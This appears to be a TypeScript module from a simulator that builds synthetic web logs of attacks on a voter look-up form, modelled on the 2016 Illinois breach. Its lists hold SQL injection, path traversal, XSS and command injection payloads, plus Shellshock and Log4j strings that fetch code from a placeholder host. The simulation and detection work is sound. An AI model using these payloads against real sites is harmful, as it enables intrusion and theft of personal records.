/**
 * Attack content: SQL, traversal, scripts, commands, Shellshock and Log4j; loud, low and slow, hidden in a surge, and
 * the break-in of Illinois 2016.
 *
 * Illinois (Senate Select Committee on Intelligence, volume 1, 2019; state board's own account): queries with SQL in
 * the field of an application-status page, answered with success and with other people's records, day and night for
 * weeks, up to five a second.
 */
import type { Random } from '../../random.ts';
import { sizeWithin, startFor, type WebScenario, type WebStage } from '../scenario.ts';
import { Visit, type WebRequest } from '../web-requests.ts';
import { HOUR, SECOND } from '../world.ts';
import { deadlineHours } from './voters.ts';
import { BROWSERS, LOOKUP_ANSWER, LOOKUP_PATH, lookUp, TOOLS, usualSize } from './web-site.ts';

const SQL = [
  "' OR '1'='1",
  "' OR 1=1--",
  "1' AND SLEEP(5)-- -",
  "' UNION SELECT NULL,NULL,NULL--",
  "1;WAITFOR DELAY '0:0:5'--",
  "' UNION ALL SELECT table_name,2 FROM information_schema.tables--",
  "1' AND (SELECT COUNT(*) FROM users)>0--",
  "admin'/*",
  "1' ORDER BY 10-- -",
  "'; EXEC xp_cmdshell('whoami')--",
  "' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))--",
];
const OTHERS = [
  '/../../../../etc/passwd',
  '/..%2f..%2f..%2fetc%2fpasswd',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E',
  '/ping?host=127.0.0.1%3Bcat+/etc/passwd',
  '/index.php?page=php://filter/convert.base64-encode/resource=index',
  '/?x=${jndi:ldap://203.0.113.99/a}',
  '/api?cmd=%7Cid',
  '/?id=%24%28wget+http%3A%2F%2F203.0.113.99%2Fx%29',
];
const SHELLSHOCK = '() { :; }; /bin/bash -c "curl http://203.0.113.99/x"';
const LOG4J = '${jndi:ldap://203.0.113.99:1389/b}';

/** Loud injection: lists of payloads, refused by the application. */
export const webInjection: WebScenario = {
  name: 'web-injection',
  share: 0.04,
  play(stage) {
    const { world, random, budget, host } = stage;
    const end = host.requests.count + budget;
    do {
      const source = world.foreign(random, 'web-injection');
      const count = sizeWithin(random, 12, 2_000, budget);
      const gap = random.spread(0.01, 10) * SECOND;
      const agent = random.pick(TOOLS);
      let time = startFor(random, world.span, gap * count);
      for (let sent = 0; sent < count; ) {
        const visit = new Visit(world, host, source, time);
        for (let inVisit = random.integer(1, 20); inVisit > 0 && sent < count; inVisit--, sent++) {
          visit.request(attack(random, random.wait(gap) / 1_000, agent));
        }
        visit.end();
        time = visit.now + random.wait(gap);
      }
    } while (host.requests.count < end);
  },
};

/** Low and slow: a few injections an hour into the public form among ordinary look-ups, mostly refused. */
export const webInjectionSlow: WebScenario = {
  name: 'web-injection-slow',
  share: 0.004,
  play(stage) {
    const end = stage.host.requests.count + stage.budget;
    do {
      const { world, random, host } = stage;
      const source = world.foreign(random, 'web-injection-slow');
      const agent = random.pick(BROWSERS);
      const gap = random.spread(120, 1_800) * SECOND;
      const count = Math.max(12, Math.round(Math.min(150, world.span / gap) * random.between(0.5, 0.95)));
      let time = startFor(random, world.span, gap * count);
      for (let sent = 0; sent < count; sent++) {
        const visit = new Visit(world, host, source, time);
        const inject = random.chance(0.6);
        visit.request(inject ? refusedInForm(random, agent) : lookUp(random, 0, agent));
        visit.end();
        time += random.wait(gap);
      }
    } while (stage.host.requests.count < end);
  },
};

/** One source injects during the surge of deadline day; some of it is answered. */
export const webInjectionInSurge: WebScenario = {
  name: 'web-injection-in-surge',
  share: 0.002,
  play(stage) {
    const { world, random, host, budget } = stage;
    const { from, until } = deadlineHours(world.span);
    const source = world.foreign(random, 'web-injection-in-surge');
    const count = Math.max(15, Math.round(budget));
    const gap = ((until - from) * 0.5) / count;
    let time = from + (until - from) * 0.3;
    const agent = random.pick(BROWSERS);
    for (let sent = 0; sent < count; sent++) {
      const visit = new Visit(world, host, source, time);
      visit.request(
        random.chance(0.2) && world.customs.breakInsSucceed
          ? answeredInForm(random, agent, random.spread(1.3, 8))
          : refusedInForm(random, agent),
      );
      visit.end();
      time += random.wait(gap);
    }
  },
};

/** Illinois 2016: the form answers the injection with success, and with sizes that it never had. */
export const webBreakIn: WebScenario = {
  name: 'web-break-in',
  share: 0.006,
  play(stage) {
    const { world, random, host, budget } = stage;
    const source = world.foreign(random, 'web-break-in');
    const agent = random.pick([...TOOLS.slice(4, 7), ...BROWSERS.slice(0, 2)]);
    const quiet = Math.max(4, Math.min(40, Math.round(budget * 0.2)));
    let time = random.between(0, HOUR);
    for (let sent = 0; sent < quiet; sent++) {
      oneAnswered(stage, source, agent, time, random.between(0.9, 1.6));
      time += random.wait((world.span * 0.4) / quiet);
    }
    time = Math.min(time, world.span * 0.6);
    for (let sent = quiet; sent < budget; sent++) {
      oneAnswered(stage, source, agent, time, random.spread(1.5, 90));
      time += random.spread(0.2, 2) * SECOND;
      if (time >= world.span || host.requests.count === 0) return;
    }
  },
};

/** A break-in that is over at once: refused for half an hour, then answered one single time. */
export function breakInOnce(stage: WebStage): void {
  const { world, random, host } = stage;
  const source = world.foreign(random, 'web-break-in');
  const agent = random.pick(BROWSERS);
  let time = random.between(9, 15) * HOUR;
  for (let refused = random.integer(9, 15); refused > 0; refused--) {
    const visit = new Visit(world, host, source, time);
    visit.request(refusedInForm(random, agent));
    visit.end();
    time += random.between(60, 180) * SECOND;
  }
  oneAnswered(stage, source, agent, time, random.between(3, 9));
}

function oneAnswered(stage: WebStage, source: number, agent: string, time: number, times: number): void {
  const visit = new Visit(stage.world, stage.host, source, time);
  visit.request(answeredInForm(stage.random, agent, times));
  visit.end();
}

function answeredInForm(random: Random, agent: string, times: number): WebRequest {
  const size = Math.round(usualSize(random, LOOKUP_ANSWER) * times);
  return { after: 0, url: formUrl(random), status: 200, size, agent, through: true };
}

function refusedInForm(random: Random, agent: string): WebRequest {
  return { after: 0, url: formUrl(random), status: random.chance(0.7) ? 400 : 403, size: 552, agent };
}

function formUrl(random: Random): string {
  const number = random.integer(1, 5_000_000);
  return `${LOOKUP_PATH}?name=${number}${encodeURIComponent(random.pick(SQL)).replaceAll('%20', '+').replaceAll("'", '%27')}`;
}

function attack(random: Random, after: number, agent: string): WebRequest {
  const status = random.pick([400, 403, 403, 404, 404]);
  const answer = { after, status, size: status === 404 ? 1_245 : 552 };
  const manner = random.unit();
  if (manner < 0.5) return { ...answer, url: formUrl(random), agent };
  if (manner < 0.55) return { ...answer, url: '/cgi-bin/status', agent: SHELLSHOCK };
  if (manner < 0.6) return { ...answer, url: '/', agent: LOG4J, referer: LOG4J, status: 403, size: 552 };
  return { ...answer, url: random.pick(OTHERS), agent, method: random.chance(0.1) ? 'POST' : 'GET' };
}
